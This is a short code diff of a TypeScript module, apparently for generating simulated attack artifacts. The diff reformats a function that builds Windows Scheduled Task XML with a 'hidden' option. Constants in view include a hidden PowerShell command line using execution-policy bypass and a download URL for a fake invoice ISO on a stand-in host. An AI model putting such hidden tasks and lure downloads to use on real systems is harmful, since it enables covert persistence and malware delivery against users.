@@ -20,9 +20,15 @@ export const POWERSHELL_LINE = `powershell.exe -NoP -NonI -W Hidden -Exec Bypass
 export const DOWNLOAD_URL = 'https://files.secure-invoices.example/d/8841/Invoice_8841.iso'
 
 /** The task as Windows keeps it: UTF-16 with a byte order mark. @param start ISO 8601, local time */
-export function taskXml(
-  task: { uri: string, author: string, command: string, arguments: string, start: string, user: string, hidden: boolean }
-): Uint8Array {
+export function taskXml(task: {
+  uri: string
+  author: string
+  command: string
+  arguments: string
+  start: string
+  user: string
+  hidden: boolean
+}): Uint8Array {
   const xml = `<?xml version="1.0" encoding="UTF-16"?>
 <Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
   <RegistrationInfo>
